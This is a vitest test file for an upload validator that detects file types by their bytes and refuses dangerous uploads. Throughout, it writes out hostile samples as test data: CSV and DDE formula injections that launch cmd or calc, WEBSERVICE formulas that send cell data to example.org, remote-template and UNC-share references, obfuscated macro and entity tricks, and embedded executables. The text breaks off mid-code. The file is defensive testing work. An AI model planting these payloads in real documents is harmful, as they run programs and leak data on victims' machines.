import { createHash, randomBytes } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';
import { Readable } from 'node:stream';
import { finished } from 'node:stream/promises';
import { beforeEach, describe, expect, it } from 'vitest';
import { useTemporaryFolders } from './temporary-folder.fixture';
import {
  compoundFile,
  docx,
  heic,
  odp,
  ods,
  odt,
  officeOf,
  pdf,
  picture,
  pptx,
  program,
  xlsx,
  zip,
} from './upload-files.fixture';
import { receiveFile, UploadRefused } from './uploads';

const folders = useTemporaryFolders();
const maxBytes = 25 * 1024 * 1024;
let temporaryFolder: string;

beforeEach(async () => {
  temporaryFolder = await folders();
});

const receive = (name: string, content: Buffer | string, limit = maxBytes) =>
  receiveFile(Readable.from([Buffer.from(content)]), { name, maxBytes: limit, temporaryFolder, reserve: 0 });

async function refusalOf(name: string, content: Buffer | string): Promise<string> {
  const error = await receive(name, content).catch((reason: unknown) => reason);
  if (!(error instanceof UploadRefused)) throw new Error(`${name} was accepted, or failed: ${String(error)}`);
  expect(error.fileName).toBe(name);
  expect(error.code).toBe('file_type');
  expect(await readdir(temporaryFolder)).toEqual([]);
  return error.reason;
}

describe('a file that is accepted', () => {
  it.each([
    ['plan.pdf', 'application/pdf', () => pdf],
    ['PLAN.PDF', 'application/pdf', () => pdf],
    ['plan', 'application/pdf', () => pdf],
    ['minutes.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', docx],
    ['rates.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', xlsx],
    ['training.pptx', 'application/vnd.openxmlformats-officedocument.presentationml.presentation', pptx],
    ['minutes.odt', 'application/vnd.oasis.opendocument.text', odt],
    ['rates.ods', 'application/vnd.oasis.opendocument.spreadsheet', ods],
    ['training.odp', 'application/vnd.oasis.opendocument.presentation', odp],
    ['notes.txt', 'text/plain', () => 'Fußboden naß – 床が濡れている 🧹'],
    ['residents.csv', 'text/csv', () => '\ufeffRoom,Note\r\n12,"a < b"\r\n'],
    // Signatures of bitmaps, programs, 3D models: words as well.
    ['weights.csv', 'text/csv', () => 'BMI,Weight\n22,60\n'],
    ['diet.txt', 'text/plain', () => 'solid food only'],
    ['dm.txt', 'text/plain', () => 'MZ asked for help'],
    // Numbers, formulas, handles, lists and columns as they are.
    [
      'sums.csv',
      'text/csv',
      () => 'a,b\n-5,=A1+B1\n"+49 30 1","@anna, @rosa"\n-1.5%,"High|Alert!"\n=Sheet2!A1,a|b',
    ],
    ['list.txt', 'text/plain', () => '- lunch | great!\n- DDE is no more used\n-- a||b! =c'],
    ['shakes.txt', 'text/plain', () => '- RTD (ready to drink) at 10 am\n- rtd (Ready-to-drink), RTD (8 oz)'],
    ['ids.csv', 'text/csv', () => 'ID;Name;Room\nA;Eva;1\nC;Rosa;2\n'],
  ])('is known by its bytes and kept as it is: %s', async (name, type, make) => {
    const content = Buffer.from(await make());
    const received = await receive(name, content);
    expect(received).toMatchObject({ name, type, size: content.length, width: null, height: null });
    expect(received.sha256).toBe(createHash('sha256').update(content).digest('hex'));
    expect(await readFile(received.tempPath)).toEqual(content);
    expect(await readdir(temporaryFolder)).toHaveLength(1);
  });

  it('may be exactly as large as the limit', async () => {
    expect(await receive('notes.txt', 'a'.repeat(1000), 1000)).toMatchObject({ size: 1000 });
  });

  it('keeps a name that is only for display', async () => {
    expect(await receive('../../etc/\u202etxt.\u0000notes.txt', 'x')).toMatchObject({
      name: 'txt.notes.txt',
    });
  });
});

describe('a file that is too large', () => {
  it('is refused while it arrives, and the sender is listened to until the end', async () => {
    let read = 0;
    async function* endless() {
      for (; read < 400; read += 1) yield Buffer.alloc(64 * 1024, 'a');
    }
    const stream = Readable.from(endless());
    const received = receiveFile(stream, {
      name: 'big.txt',
      maxBytes: 1024 * 1024,
      temporaryFolder,
      reserve: 0,
    });
    await expect(received).rejects.toMatchObject({
      code: 'tooLarge',
      fileName: 'big.txt',
      reason: 'larger than 1 MB',
    });
    expect(read).toBeLessThan(30);
    expect(await readdir(temporaryFolder)).toEqual([]);
    await finished(stream);
    expect(read).toBe(400);
  });

  it('is refused when the parser of the form cut it short', async () => {
    const stream = Object.assign(Readable.from([Buffer.from('half')]), { truncated: true });
    const received = receiveFile(stream, { name: 'big.txt', maxBytes, temporaryFolder, reserve: 0 });
    await expect(received).rejects.toMatchObject({ code: 'tooLarge', reason: 'larger than 25 MB' });
  });
});

describe('a file that is not accepted', () => {
  const disguised = 'its content is not what its name says';

  it.each([
    ['SVG', 'logo.svg', '<svg xmlns="http://www.w3.org/2000/svg"/>', 'SVG pictures are not accepted'],
    [
      'SVG as PNG',
      'logo.png',
      '<?xml version="1.0"?>\n<svg onload="x()"></svg>',
      'SVG pictures are not accepted',
    ],
    ['SVG as text', 'logo.txt', '  <!-- hi --><SVG onload=x()>', 'SVG pictures are not accepted'],
    ['HTML', 'page.html', '<!DOCTYPE html><p>', 'web pages are not accepted'],
    ['HTML without a name', 'page', '\n <script>x()</script>', 'web pages are not accepted'],
    ['HTML as text', 'page.txt', '\ufeff\n<html><script>', disguised],
    ['HTML as PDF', 'page.pdf', '<html>%PDF-1.7', disguised],
    ['PDF as text', 'page.csv', '%PDF-1.7', disguised],
    ['a program', 'setup.exe', program, 'programs are not accepted'],
    ['a program as PDF', 'invoice.pdf', program, disguised],
    ['a program as picture', 'photo.jpg', program, disguised],
    ['a PDF as program', 'invoice.exe', pdf, disguised],
    ['a PDF as Word file', 'invoice.docx', pdf, disguised],
    ['noise as PDF', 'plan.pdf', Buffer.alloc(500, 7), disguised],
    ['something unknown', 'model.xyz', Buffer.alloc(500, 7), 'this kind of file is not accepted'],
    ['text of no known ending', 'notes.md', '# Notes', 'this kind of file is not accepted'],
    ['text with NUL', 'notes.txt', 'a\0b', 'it is not plain text'],
    ['nothing', 'notes.txt', '', 'it is empty'],
    ['GIF', 'wave.gif', 'GIF89a\x01\0\x01\0', 'this kind of picture is not accepted; save it as JPEG or PNG'],
    [
      'a film',
      'walk.mp4',
      Buffer.from('\0\0\0\x18ftypmp42\0\0\0\0mp42isom', 'latin1'),
      'films and sound recordings are not accepted',
    ],
  ])('is refused with the reason named: %s', async (_, name, content, reason) => {
    expect(await refusalOf(name, content)).toBe(reason);
  });

  it.each([
    ['Windows-1252', Buffer.from('Caf\xe9', 'latin1')],
    ['a character cut in two', Buffer.from('Café').subarray(0, 4)],
    ['UTF-16', Buffer.from('\ufeffCafé', 'utf16le')],
  ])('is refused as text when it is no UTF-8: %s', async (_, content) => {
    expect(await refusalOf('notes.csv', content)).toMatch(/^it is not text in UTF-8/);
  });

  it.each([
    ["a,b\n=cmd|'/C calc'!A0,1\n"],
    ["a;b\n1; +1,5+cmd|' /C calc'!_xlbgnm.A1"],
    ["a\n-2+3+cmd|'/C calc'!A0"],
    ['@SUM(1,2)*cmd|topic!A0'],
    ["=cmd|'/C ''x y'''!ä"],
    ['a,b\n"=DDE(""soffice"";""/tmp/x"";""a"")",1\n'],
    ['a,b\n"=WEBSERVICE(""https://example.org/""&A1)",1\n'],
    ['a,=WEBSERVICE(A1)\n'],
    // A mark in another line hides nothing.
    ["a|'\n=cmd|'/C calc'!A0\n'!b"],
    ['RTD(1),=RTD(1,2)'],
    ['RTD(1)\nRTD(2),a\n1,=1+RTD(1,2)'],
    ['a,=WEBSERVICE( A1 B1)\n'],
    ['a,=RTD (a b,c)\n'],
    [`${'a,b\n'.repeat(16_383)}=cmd|'/C calc'!A0`],
    [`a,"=""${'x'.repeat(20_000)}""&cmd|'/C calc'!A0"${','.repeat(100_000)}`],
  ])('is refused for a formula that fetches from another program: %#', async (content) => {
    expect(await refusalOf('a.csv', content)).toMatch(/^tables that fetch from other programs/);
  });

  it('is refused as a spreadsheet (SYLK) that poses as a table', async () => {
    const sylk = 'ID;PScalc3.0;E\r\nO;E\r\n';
    expect(await refusalOf('a.csv', `${sylk}C;X1;Y101;K0;EEXEC("calc.exe")\r\nE\r\n`)).toBe(disguised);
    expect(await refusalOf('a.csv', `${sylk}NN;NAuto_open;ER101C1;KOut Flank;F\r\nE\r\n`)).toBe(disguised);
  });

  it.each([
    ['-'],
    ['=|'],
    ["|'"],
    ['DDE '],
    ['x\n'],
    ['\r\n--'],
    ['RTD(\n'],
    ["=a|'b'!c "],
    ["'|'"],
    ["|'a'"],
    ['ID;\nC;;'],
    ['-1,'],
    [`RTD(${'a '.repeat(1000)}`],
  ])('is looked through in no more time than others: %s', async (text) => {
    const content = text.repeat(2_000_000 / text.length);
    const begunMs = performance.now();
    await receive('a.csv', content).catch(() => undefined);
    expect(performance.now() - begunMs).toBeLessThan(700);
  });

  it('is told from a password by its ending', async () => {
    expect(await refusalOf('old.doc', compoundFile)).toMatch(
      /^it is protected by a password or in the format of an older/,
    );
    expect(await refusalOf('rates.xlsx', compoundFile)).toMatch(/^it is protected by a password/);
    expect(await refusalOf('plan.pdf', compoundFile)).toBe(disguised);
  });

  it('is refused when one Office file poses as another', async () => {
    expect(await refusalOf('rates.xlsx', await docx())).toBe(disguised);
    expect(await refusalOf('photo.jpg', await docx())).toBe(disguised);
  });

  it('is refused as an archive', async () => {
    const archive = await zip({ 'a.txt': 'a' });
    expect(await refusalOf('all.zip', archive)).toBe('archives are not accepted; add the files one by one');
    expect(await refusalOf('all.docx', archive)).toBe('archives are not accepted; add the files one by one');
  });
});

describe('an Office file', () => {
  const macros = 'documents with macros are not accepted; save it without macros';
  const bomb = 'the document unpacks to far more than it seems (at most 200 MB)';
  const unreadable = 'the document cannot be read';
  const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml';

  it('with macros is refused, wherever they are', async () => {
    expect(await refusalOf('a.docm', await officeOf(macroType))).toBe(macros);
    expect(await refusalOf('a.docx', await docx({}, [macroType]))).toBe(macros);
    expect(await refusalOf('a.docx', await docx({ 'word/VbaProject.bin': 'x' }))).toBe(macros);
    expect(await refusalOf('a.docx', await docx({}, ['application/vnd.ms-office.vbaProject']))).toBe(macros);
    expect(
      await refusalOf(
        'a.docx',
        await docx({}, ['application/vnd.ms-word.document.macro&#69;nabled.main+xml']),
      ),
    ).toBe(unreadable);
    expect(await refusalOf('a.odt', await odt({ 'Basic/Standard/Module1.xml': '<x/>' }))).toBe(macros);
  });

  it('with macro sheets, or with macros in a document within it, is refused as one with macros', async () => {
    expect(await refusalOf('a.xlsx', await xlsx({ 'xl/macrosheets/sheet1.xml': '<x/>' }))).toBe(macros);
    const sheet = 'application/vnd.ms-excel.macrosheet+xml';
    expect(await refusalOf('a.xlsx', await xlsx({}, [sheet]))).toBe(macros);
    expect(await refusalOf('a.docx', await docx({ 'word/embeddings/Sheet1.xlsm': 'x' }))).toBe(macros);
    for (const within of [
      await xlsx({ 'xl/vbaProject.bin': 'x' }),
      await xlsx({}, [sheet]),
      await docx({ 'word/embeddings/a.xlsx': await xlsx({ 'xl/macrosheets/sheet1.xml': '<x/>' }) }),
    ])
      expect(await refusalOf('a.docx', await docx({ 'word/embeddings/Sheet1.xlsx': within }))).toBe(macros);
    const reference = (type: string) =>
      docx({
        'word/_rels/document.xml.rels': `<Relationships><Relationship Type="${type}" Target="m.bin"/></Relationships>`,
      });
    expect(
      await refusalOf(
        'a.docx',
        await reference('http://schemas.microsoft.com/office/2006/relationships/vbaProject'),
      ),
    ).toBe(macros);
    expect(await refusalOf('a.odt', await odt({ 'Object 1/Basic/Standard/Module1.xml': '<x/>' }))).toBe(
      macros,
    );
    const listener =
      '<office:document-content><script:event-listener script:language="ooo:script"/></office:document-content>';
    expect(await refusalOf('a.odt', await odt({ 'styles.xml': listener }))).toBe(macros);
    // Who writes of them has none.
    const text = '<w:t>Delete vbaProject.bin</w:t>';
    await receive('a.docx', await docx({ 'word/document.xml': text }));
  });

  it.each([
    ['an attribute without end', `<Relationship ${'a'.repeat(200_000)}>`],
    ['tags without end', '<Relationship '.repeat(200_000)],
    ['references', `<Relationship Target="${'&#x41'.repeat(40_000)}"/>`],
    ['attributes', `<Relationship ${'a="" '.repeat(40_000)}/>`],
    ['quotes', `<Relationship ${`a='"' `.repeat(40_000)}/>`],
    ['comments', '<!-- '.repeat(200_000)],
  ])('that is made to take long takes no longer than others: %s', async (_, xml) => {
    const content = await docx({ 'word/_rels/document.xml.rels': xml });
    const begunMs = performance.now();
    await receive('a.docx', content).catch(() => undefined);
    expect(performance.now() - begunMs).toBeLessThan(500);
  });

  it('with a program within it is refused by that name', async () => {
    const programs = 'documents with embedded programs are not accepted; take them out';
    const packed = Buffer.from('\u0001oLE10nATIVE', 'utf16le');
    expect(await refusalOf('a.docx', await docx({ 'word/embeddings/oleObject1.bin': packed }))).toBe(
      programs,
    );
    expect(await refusalOf('a.odt', await odt({ 'Object 1': packed }))).toBe(programs);
    expect(await refusalOf('a.docx', await docx({ 'word/activeX/activeX1.xml': '<x/>' }))).toBe(programs);
    expect(await refusalOf('a.docx', await docx({ 'word/media/payload.exe': 'MZ' }))).toBe(programs);
    const inner = await docx({ 'word/embeddings/oleObject1.bin': packed });
    expect(await refusalOf('a.docx', await docx({ 'word/embeddings/inner.docx': inner }))).toBe(programs);
    // What is named as text and is none would be opened as what it is.
    const container = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), packed]);
    expect(await refusalOf('a.docx', await docx({ 'word/embeddings/oleObject1.xml': container }))).toBe(
      unreadable,
    );
  });

  it('that fetches a template or an object from elsewhere is refused; links and templates of the own disk are not', async () => {
    const remote =
      'documents that fetch a template or an object from elsewhere are not accepted; take the link out and save it again';
    const refers = (type: string, target: string) =>
      docx({
        'word/_rels/settings.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
          <Relationship Id="rId1" TargetMode='External' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"
            Target="${target}"/></Relationships>`,
      });
    const found = async (type: string, target: string) => refusalOf('a.docx', await refers(type, target));
    for (const target of [
      'https://example.org/a.dotm',
      '&#104;ttp://example.org/a.dotm',
      '\\\\example.org\\share\\a.dotm',
      '//example.org/a.dotm',
      'file://example.org/share/a.dotm',
    ])
      expect([target, await found('attachedTemplate', target)]).toEqual([target, remote]);
    for (const type of ['oleObject', 'frame', 'subDocument', 'package', 'aFChunk'])
      expect([type, await found(type, 'https://example.org/a.xlsx')]).toEqual([type, remote]);
    expect(await found('attachedTemplate', '/\\example.org\\share\\a.dotm')).toBe(remote);
    expect(await found('attachedTemplate" a=">', 'https://example.org/a.dotm')).toBe(remote);
    // A document that is put together when it is opened.
    expect(await found('aFChunk', 'part.rtf')).toBe(remote);
    for (const fetching of [
      '<draw:object xlink:href="http://example.org/a.ods"/>',
      '<draw:floating-frame xlink:href="https://example.org/"/>',
      '<text:section-source xlink:href="//example.org/a.odt"/>',
      '<meta:template xlink:href="http://example.org/a.ott"/>',
    ])
      expect([fetching, await refusalOf('a.odt', await odt({ 'styles.xml': `<x>${fetching}</x>` }))]).toEqual(
        [fetching, remote],
      );
    const declared = '<!DOCTYPE Relationships [<!ATTLIST Relationship Type CDATA "x">]><Relationships/>';
    expect(await refusalOf('a.docx', await docx({ 'word/_rels/settings.xml.rels': declared }))).toBe(
      unreadable,
    );
    expect(await found('attached&#84;emplate', 'https://example.org/a.dotm')).toBe(remote);
    const wide = Buffer.from('\ufeff<Relationships/>', 'utf16le').toString('latin1');
    expect(await refusalOf('a.docx', await docx({ 'word/_rels/settings.xml.rels': wide }))).toBe(unreadable);
    // What is taken in stays behind here, so it comes last.
    await receive(
      'a.docx',
      await refers('attachedTemplate', 'file:///C:\\Users\\Rosa\\Templates\\Normal.dotm'),
    );
    await receive('a.docx', await refers('hyperlink', 'https://example.org/?a=1&amp;b=2'));
    await receive('a.docx', await refers('oleObject', 'embeddings/oleObject1.bin'));
    await receive('a.docx', await refers('image', 'https://example.org/logo.png'));
    await receive('a.docx', await docx({ 'word/embeddings/Sheet1.xlsx': await xlsx() }));
    await receive('a.odt', await odt({ 'styles.xml': '<text:a xlink:href="https://example.org/"/>' }));
  });

  describe('that hides where something comes from is refused:', () => {
    const relationship = (attributes: string) =>
      docx({
        'word/_rels/settings.xml.rels': `<Relationships xmlns:x="urn:x"><Relationship ${attributes}/></Relationships>`,
      });
    const template = 'Type="http://example.org/relationships/attachedTemplate"';
    const macros = 'documents with macros are not accepted; save it without macros';
    const remote =
      'documents that fetch a template or an object from elsewhere are not accepted; take the link out and save it again';

    it.each([
      `${template} Target="http://example.org/t.dotm" x:Target="a.xml"`,
      `${template} Target="http://example.org/t.dotm" x:Type="http://x/hyperlink"`,
      `${template} x:Type="http://x/image" Target="https://example.org/t.dotm"`,
      `${template} Target="ht&#9;tp://example.org/t.dotm"`,
      `${template} Target="&#x0000000068;ttp://example.org/t.dotm"`,
      `${template} Target="http&#000000000058;//example.org/t.dotm"`,
      'Type="http://example.org/relationships/&#x00000000061;FChunk" Target="part.rtf"',
      `${template} Target="&#x200b;http://example.org/t.dotm"`,
      `${template} Target="%5c%5cexample.org%5cs%5ct.dotm"`,
      `${template} Target="\\??\\UNC\\example.org\\s\\t.dotm"`,
      `${template} Target="file:///c:/../../../UNC/example.org/s/t.dotm"`,
    ])('Relationship %s', async (attributes) => {
      expect(await refusalOf('a.docx', await relationship(attributes))).toBe(remote);
    });

    it.each([
      ['xlink:href="http://example.org/a.html" x:href="./a.html"', remote],
      ['xlink:href="vnd.sun.star.script:x" x:href="./a.html"', macros],
      ['xlink:href="vnd.sun.star.&#10;script:x"', macros],
    ])('frame %s', async (attributes, refusal) => {
      const content = await odt({ 'styles.xml': `<x><draw:floating-frame ${attributes}/></x>` });
      expect(await refusalOf('a.odt', content)).toBe(refusal);
    });
  });

  describe('whose fields fetch something', () => {
    const dde =
      'documents that fetch from other programs (DDE) are not accepted; take the field out and save it again';
    const remote =
      'documents that fetch a template or an object from elsewhere are not accepted; take the link out and save it again';
    const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
    const text = (instruction: string) => `<w:r><w:instrText>${instruction}</w:instrText></w:r>`;
    const field = (...inner: string[]) => [mark('begin'), ...inner, mark('separate'), mark('end')].join('');
    const simple = (instruction: string) => `<w:fldSimple w:instr="${instruction}"><w:r/></w:fldSimple>`;
    const documentOf = (xml: string) => docx({ 'word/document.xml': `<w:p>${xml}</w:p>` });

    it.each([
      ['DDEAUTO', field(text('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')), dde],
      ['DDE in pieces', field(text(' D'), text('D&#69; '), text('cmd x')), dde],
      ['DDE as character data', field(text('<![CDATA[DDE]]> cmd x')), dde],
      ['DDE after a comment', field(text('D<!-- -->DE cmd x')), dde],
      ['DDE in another field', field(text('IF 1 = 1 '), field(text('dde cmd x'))), dde],
      ['DDE without an end', mark('begin') + text('DDE cmd x'), dde],
      ['DDE as a simple field', simple('DDEAUTO cmd x'), dde],
      [
        'a picture of a share',
        simple('INCLUDEPICTURE &quot;\\\\\\\\example.org\\\\s\\\\p.png&quot; d'),
        remote,
      ],
      ['a text of the web', field(text('INCLUDETEXT "https://example.org/a.docx"')), remote],
      [
        'an object of a share',
        field(text('LINK Excel.Sheet.12 "\\\\\\\\example.org\\\\s\\\\a.xlsx" R1C1')),
        remote,
      ],
      [
        'a share in another field',
        field(text('INCLUDEPICTURE '), field(text('QUOTE "\\\\\\\\example.org\\\\p.png"'))),
        remote,
      ],
    ])('is refused: %s', async (_, xml, refusal) => {
      expect(await refusalOf('a.docx', await documentOf(xml))).toBe(refusal);
    });

    it('is refused, as OpenDocument and as a workbook, too', async () => {
      for (const tag of [
        '<text:dde-connection-decl office:dde-application="cmd" office:dde-topic="/c calc"/>',
        '<table:dde-link><office:dde-source office:dde-application="cmd"/></table:dde-link>',
        '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;)"/>',
        '<table:table-cell table:formula="of:=D&#68;E(1)"/>',
        '<table:table-cell table:formula="of:=&#x000000044;DE(1)"/>',
        '<table:named-expression table:expression="of:=DDE (1)"/>',
        '<table:content-validation table:condition="of:is-true-formula(DDE&#40;1))"/>',
        '<table:table-cell table:formula="msoxl:=cmd|\'/c calc\'!A0"/>',
      ])
        expect([tag, await refusalOf('a.odt', await odt({ 'styles.xml': `<x>${tag}</x>` }))]).toEqual([
          tag,
          dde,
        ]);
      const link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>';
      expect(await refusalOf('a.xlsx', await xlsx({ 'xl/externalLinks/externalLink1.xml': link }))).toBe(dde);
    });

    it.each([
      '<f>DDE("cmd","/c calc","A0")</f>',
      "<f>cmd|'/c calc'!A0</f>",
      '<f t="shared">1+cm<![CDATA[d|]]>\'/c calc\'&#33;A0</f>',
      '<f>IF(A1="it\'s",cmd|topic!A0)</f>',
      '<definedName name="a">cmd|\'/c calc\'!A0</definedName>',
      "<x14:cfRule><xm:f>cmd|'/c calc'!A0</xm:f></x14:cfRule>",
      // A column that is called `[`.
      "<f>a['[]+cmd|'/c calc'!A0</f>",
    ])('is refused in a formula of a workbook: %s', async (formula) => {
      const content = await xlsx({ 'xl/worksheets/sheet1.xml': `<worksheet>${formula}<v>1</v></worksheet>` });
      expect(await refusalOf('a.xlsx', content)).toBe(dde);
    });

    const asking =
      'documents that ask other computers for data (WEBSERVICE, data connections) are not accepted; take that out and save it again';

    it.each([
      ['worksheets/sheet1', '<worksheet><f>_xlfn.WEBSERVICE("https://example.org/"&amp;A1)</f></worksheet>'],
      ['worksheets/sheet1', '<worksheet><f>1+WebService (A1)</f></worksheet>'],
      ['worksheets/sheet1', '<worksheet><f>RTD("some.program",,"a")</f></worksheet>'],
      [
        'worksheets/sheet1',
        '<worksheet><f>a[\'[]&amp;WEBSERVICE("https://example.org/")&amp;a[\']]</f></worksheet>',
      ],
      ['worksheets/sheet1', '<worksheet><cfvo type="formula" val="_xlfn.WEBSERVICE(A1)"/></worksheet>'],
      ['connections', '<connections><connection id="1" type="4" refreshOnLoad="1"/></connections>'],
      ['connections', "<connections><connection id='1' type='5' interval='&#49;'/></connections>"],
      ['queryTables/queryTable1', '<queryTable refreshOnLoad="true"/>'],
      [
        'pivotCache/pivotCacheDefinition1',
        '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>',
      ],
      // Cells of another workbook, which a relationship names.
      [
        'pivotCache/pivotCacheDefinition1',
        '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="a" r:id="rId1"/></cacheSource></pivotCacheDefinition>',
      ],
      [
        'pivotCache/pivotCacheDefinition1',
        '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="consolidation"><consolidation><rangeSets><rangeSet ref="A1" sheet="a" r:id="rId1"/></rangeSets></consolidation></cacheSource></pivotCacheDefinition>',
      ],
    ])('is refused where a workbook asks other computers: %s %s', async (part, xml) => {
      expect(await refusalOf('a.xlsx', await xlsx({ [`xl/${part}.xml`]: xml }))).toBe(asking);
    });

    it.each([
      ['<table:table-source xlink:href="https://example.org/a.ods" table:table-name="a"/>', remote],
      ['<table:cell-range-source xlink:href="//example.org/s/a.ods" table:name="a"/>', remote],
      ['<form:connection-resource xlink:href="https://example.org/a.odb"/>', remote],
      [
        '<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;https://example.org&quot;)"/>',
        asking,
      ],
      ['<style:map style:condition="of:is-true-formula(COM.MICROSOFT.WEBSERVICE([.A1]))"/>', asking],
      // A namespace may be called anything, and not everything begins with one.
      ['<table:table-cell table:formula="o-f:=COM.MICROSOFT.WEBSERVICE([.A1])"/>', asking],
      ['<table:table-cell table:formula="COM.MICROSOFT.WEBSERVICE([.A1])"/>', asking],
      ['<table:table-cell table:formula="o-f:=cmd|\'/c calc\'!A0"/>', dde],
      ['<calcext:condition calcext:value="formula-is(COM.MICROSOFT.WEBSERVICE([.A1]))"/>', asking],
      ['<calcext:formatting-entry calcext:value="WEBSERVICE([.A1])" calcext:type="formula"/>', asking],
      ['<table:named-expression table:expression="WEBSERVICE([.A1])"/>', asking],
      ['<calcext:data-mapping xlink:href="https://example.org/a.csv"/>', remote],
      ['<meta:auto-reload xlink:href="https://example.org/a.odt" meta:delay="PT1S"/>', remote],
      ['<xforms:instance src="https://example.org/a"/>', remote],
      ['<draw:image xlink:href="file://example.org/share/a.png"/>', remote],
      ['<draw:fill-image xlink:href="//example.org/share/a.png"/>', remote],
    ])('is refused where an OpenDocument table does: %s', async (tag, refusal) => {
      expect(await refusalOf('a.ods', await ods({ 'styles.xml': `<x>${tag}</x>` }))).toBe(refusal);
    });

    it('is accepted where it is asked for, or the workbook’s own', async () => {
      await receive(
        'a.xlsx',
        await xlsx({
          'xl/connections.xml':
            '<connections><connection id="1" type="5" refreshOnLoad="0" interval="0"/></connections>',
          'xl/pivotCache/pivotCacheDefinition1.xml':
            '<pivotCacheDefinition r:id="rId1" refreshOnLoad="1"><cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="a"/></cacheSource></pivotCacheDefinition>',
          'xl/pivotCache/pivotCacheDefinition2.xml':
            '<pivotCacheDefinition><cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="a" r:id="rId1"/></cacheSource></pivotCacheDefinition>',
          'xl/worksheets/sheet1.xml': '<worksheet><c><f>PARTRTD(1)</f><t>WEBSERVICE(1)</t></c></worksheet>',
        }),
      );
      // What texts, sheets and columns are called calls nothing.
      const named = `<f>COUNTIF('RTD (2)'!A:A,"RTD (8 oz)")+SUM(a[RTD (oz)])</f>`;
      await receive('a.xlsx', await xlsx({ 'xl/worksheets/sheet1.xml': `<worksheet>${named}</worksheet>` }));
      const picture = '<draw:image xlink:href="https://example.org/a.png" draw:name="Note: RTD (8 oz)"/>';
      const own =
        '<xforms:instance src="a.xml"/><meta:auto-reload/><draw:image xlink:href="Pictures/a.png"/>' +
        '<draw:image xlink:href="data:image/png;base64,AA"/><presentation:sound xlink:href="file:///usr/share/a.wav"/>';
      await receive('a.ods', await ods({ 'styles.xml': `<x>${picture}${own}</x>` }));
      const near = '<table:table-source xlink:href="../rooms.ods" table:table-name="a"/>';
      await receive('a.ods', await ods({ 'styles.xml': `<x svg:desc="RTD (1)">${near}</x>` }));
    });

    it.each(['word/document.bin', 'word/document.dat', 'word/document.txt', 'word/document', 'word/a.png'])(
      'is refused in a part of any name: %s',
      async (part) => {
        const xml = `<w:p>${field(text('DDEAUTO cmd x'))}</w:p>`;
        expect(await refusalOf('a.docx', await docx({ [part]: xml }))).toBe(dde);
        expect(
          await refusalOf('a.docx', await docx({ [part]: `\ufeff\n${' '.repeat(200_000)}${xml}` })),
        ).toBe(dde);
        const wide = Buffer.from(xml, 'utf16le');
        expect(await refusalOf('a.docx', await docx({ [part]: wide }))).toBe(dde);
        expect(
          await refusalOf('a.docx', await docx({ [part]: Buffer.from(`\ufeff${xml}`, 'utf16le') })),
        ).toBe(dde);
        expect(await refusalOf('a.docx', await docx({ [part]: wide.swap16() }))).toBe(
          'the document cannot be read',
        );
      },
    );

    it('is accepted where they are the document’s own, or pictures of the web', async () => {
      const fields = [
        field(text('TOC \\o "1-3" \\h \\z \\u'), field(text(' PAGEREF _Toc1 h '))),
        field(text('HYPERLINK "https://example.org/DDE/"')),
        field(text('INCLUDEPICTURE "https://example.org/logo.png" * MERGEFORMATINET')),
        field(text('LINK Excel.Sheet.12 "C:\\\\Users\\\\Rosa Alvarez\\\\a.xlsx" "R1C1" a \\f 5')),
        simple('DATE @ &quot;M/d/yyyy&quot;'),
        '<w:r><w:t>DDE https://example.org</w:t></w:r>',
      ];
      await receive('a.docx', await documentOf(fields.join('')));
    });
  });

  it.each([
    [
      'a DTD with a sign in its name',
      '<?xml version="1.0"?><!DOCTYPE a SYSTEM "x>y" [<!ENTITY f "x">]><a>&f;</a>',
    ],
    ['a public DTD', '<!DOCTYPE a PUBLIC "-//W3C//" "x>y" [<!ENTITY f "x">]><a>&f;</a>'],
    ['a DTD elsewhere', '<!DOCTYPE a SYSTEM "http://example.org/a.dtd"><a/>'],
    ['an entity', '<a/><!ENTITY f "x">'],
    ['UTF-7', '<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-'],
    ['UTF-7 in other quotes', "<?xml version='1.0'\nencoding = 'utf-7' ?><a/>"],
    ['UTF-16 that is none', '<?xml version="1.0" encoding="UTF-16"?><a/>'],
    // <?xml … in IBM037.
    ['EBCDIC', Buffer.from('4c6fa79493', 'hex')],
    [
      'a letter that is none in UTF-8',
      Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a>\xa0</a>', 'latin1'),
    ],
  ])('whose words could mean others than they seem is refused: %s', async (_, xml) => {
    expect(await refusalOf('a.docx', await docx({ 'word/document.xml': xml }))).toBe(unreadable);
  });

  it('with a program of any ending is refused', async () => {
    const programs = 'documents with embedded programs are not accepted; take them out';
    const endings = 'msc xll url pif chm py iso iqy slk settingcontent-ms exe.'.split(' ');
    for (const ending of [...endings, 'ps1 '])
      for (const part of [`word/embeddings/object1.${ending}`, `word/media/object1.${ending}`])
        expect([part, await refusalOf('a.docx', await docx({ [part]: 'x' }))]).toEqual([part, programs]);
  });

  it('with an embedded file of no known kind is refused', async () => {
    for (const part of ['a.mht', 'a.html', 'a.rtf', 'a.one', 'a', 'a.docx.', 'in/a.zip'])
      expect([part, await refusalOf('a.docx', await docx({ [`word/embeddings/${part}`]: 'x' }))]).toEqual([
        part,
        'documents with embedded files other than documents and pictures are not accepted; take them out',
      ]);
  });

  describe('that holds an object of another program', () => {
    const webAddress = Buffer.from('e0c9ea79f9bace118c8200aa004ba90b', 'hex');
    const holds = (...bytes: Buffer[]) =>
      docx({ 'word/embeddings/oleObject1.bin': Buffer.concat([compoundFile, ...bytes]) });

